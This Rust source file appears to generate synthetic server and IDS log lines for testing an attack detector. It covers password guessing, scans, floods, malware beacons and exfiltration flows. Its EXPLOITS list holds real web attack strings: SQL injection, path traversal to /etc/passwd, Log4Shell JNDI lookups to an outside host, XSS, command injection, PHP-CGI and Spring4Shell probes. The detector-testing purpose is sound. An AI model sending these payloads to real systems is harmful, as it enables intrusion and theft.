//! Attacks, each by an address of its own; some are slow or small on purpose.

use std::net::Ipv4Addr;

use fazai_watch::Category;
use serde_json::json;

use super::lines::{access, alert, eve, flow, get, sshd};
use super::{DAY_S, Maker, steady};

const SERVER: &str = "192.0.2.80";

const EXPLOITS: &[&str] = &[
    "GET /item?id=1%27%20UNION%20SELECT%20user,pass%20FROM%20users--%20- HTTP/1.1",
    "GET /item?id=1/**/union/**/all/**/select/**/1,2,3 HTTP/1.1",
    "GET /item?id=1;DROP%20TABLE%20users-- HTTP/1.1",
    "GET /item?id=sleep(5)%23 HTTP/1.1",
    "GET /../../../../etc/passwd HTTP/1.1",
    "GET /x?file=..%252f..%252f..%252fetc%252fpasswd HTTP/1.1",
    "GET /x?f=....//....//etc/passwd HTTP/1.1",
    "GET /?x=${jndi:ldap://203.0.113.66/a} HTTP/1.1",
    "GET /?x=%24%7B%24%7Blower%3Aj%7Dndi%3Aldap%3A%2F%2F203.0.113.66%2Fa%7D HTTP/1.1",
    "GET /search?q=%3Cscript%3Ealert(1)%3C/script%3E HTTP/1.1",
    "GET /search?q=%3Cimg%20src=x%20onerror=alert(1)%3E HTTP/1.1",
    "GET /ping?host=127.0.0.1;cat%20/etc/passwd HTTP/1.1",
    "GET /ping?host=%60id%60 HTTP/1.1",
    "GET /?page=php://filter/convert.base64-encode/resource=index HTTP/1.1",
    "POST /vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php HTTP/1.1",
    "GET /cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh HTTP/1.1",
    "GET /index.php?-d+allow_url_include%3don+-d+auto_prepend_file%3dphp://input HTTP/1.1",
    "GET /?class.module.classLoader.resources.context.parent.pipeline.first.pattern=x HTTP/1.1",
];

impl Maker {
    pub(super) fn unusual(&mut self) {
        self.guessing();
        self.scanning();
        self.exploiting();
        self.flooding();
        self.inside();
    }

    /// Notes that this address does so.
    fn guilty(&mut self, category: Category, ip: Ipv4Addr) -> Ipv4Addr {
        self.attacks.insert((category, ip.to_string()));
        ip
    }

    /// A stranger who does so at some time.
    fn attacker(&mut self, category: Category) -> (Ipv4Addr, f64) {
        let ip = self.stranger();
        (self.guilty(category, ip), self.some_time())
    }

    /// A stranger does so again and again, about so many seconds apart.
    fn attack(
        &mut self,
        category: Category,
        count: u32,
        pause: f64,
        line: impl Fn(f64, Ipv4Addr, usize) -> String,
    ) {
        let (ip, begin) = self.attacker(category);
        let times = self.unsteady(begin, count, pause, 0.3);
        self.say_at(times, |time, n| line(time, ip, n));
    }

    /// Guesses at passwords: fast, and so slow that a few of them are missed.
    fn guessing(&mut self) {
        let guess = |time, user: &str, ip| {
            sshd(
                time,
                format!("Failed password for {user} from {ip} port 4022 ssh2"),
            )
        };
        for pause in [
            0.2, 0.5, 1.0, 2.0, 4.0, 8.0, 12.0, 16.0, 20.0, 26.0, 45.0, 90.0,
        ] {
            let as_root = |time, ip, _| guess(time, "root", ip);
            self.attack(Category::Bruteforce, 40, pause, as_root);
            let as_many = |time, ip, n| guess(time, &format!("invalid user u{n}"), ip);
            self.attack(Category::Bruteforce, 40, pause, as_many);
        }
    }

    /// Ports of a host, hosts of a network, pages of a site.
    fn scanning(&mut self) {
        let vain = || flow(0, 60, 0);
        for pause in [0.01, 0.1, 0.5, 1.0, 2.0, 2.8, 5.0] {
            self.attack(Category::Recon, 200, pause, |time, ip, n| {
                eve(time, "flow", ip, SERVER, 1 + n * 7, vain())
            });
            self.attack(Category::Recon, 199, pause, |time, ip, n| {
                let host = format!("192.0.2.{}", n + 1);
                eve(time, "flow", ip, host, 445, vain())
            });
            self.attack(Category::Recon, 200, pause, |time, ip, n| {
                get(time, ip, format!("/admin{n}.php"), 404, "Mozilla/5.0")
            });
        }
    }

    /// One request each.
    fn exploiting(&mut self) {
        for request in EXPLOITS {
            let (ip, time) = self.attacker(Category::Exploit);
            self.say(time, access(time, ip, request, 200, "Mozilla/5.0"));
        }
        for _ in 0..10 {
            let (ip, time) = self.attacker(Category::Exploit);
            let class = "Attempted Administrator Privilege Gain";
            let about = alert("ET EXPLOIT Apache RCE", class);
            self.say(time, eve(time, "alert", ip, SERVER, 80, about));
        }
    }

    fn flooding(&mut self) {
        for per_second in [60.0, 150.0, 300.0, 1_000.0] {
            let (ip, begin) = self.attacker(Category::Dos);
            let request = |time, n| get(time, ip, format!("/search?q={n}"), 200, "Mozilla/5.0");
            self.say_at(steady(begin, 6_000, 1.0 / per_second), request);
            let (ip, begin) = self.attacker(Category::Dos);
            let connection = |time, _| eve(time, "flow", ip, SERVER, 80, flow(1, 60, 60));
            self.say_at(steady(begin, 12_000, 0.5 / per_second), connection);
        }
    }

    /// Machines of our own that are not our own any more.
    fn inside(&mut self) {
        let own = |n| Ipv4Addr::new(10, 0, 9, n);
        for (n, jitter) in (0..).zip([0.0, 0.02, 0.05, 0.1, 0.3]) {
            let ip = self.guilty(Category::Malware, own(10 + n));
            let begin = self.some_time().min(DAY_S - 40_000.0);
            let minutes = self.unsteady(begin, 60, 60.0, jitter);
            let about =
                json!({ "tls": { "sni": format!("c{n}.example.net"), "version": "TLS 1.2" } });
            let call = |time, _| eve(time, "tls", ip, "203.0.113.250", 443, about.clone());
            self.say_at(minutes, call);
        }
        for n in 0..6 {
            let ip = self.guilty(Category::Malware, own(20 + n));
            let time = self.some_time();
            let class = "Malware Command and Control Activity Detected";
            let about = alert("ET MALWARE Beacon", class);
            self.say(time, eve(time, "alert", ip, "203.0.113.251", 443, about));
        }
        for (n, bytes) in (0..).zip([120_000_000, 400_000_000, 2_000_000_000, 9_000_000_000]) {
            let ip = self.guilty(Category::Exfiltration, own(30 + n));
            let time = self.some_time();
            let about = flow(90_000, bytes, 900_000);
            self.say(time, eve(time, "flow", ip, "203.0.113.252", 443, about));
        }
    }
}
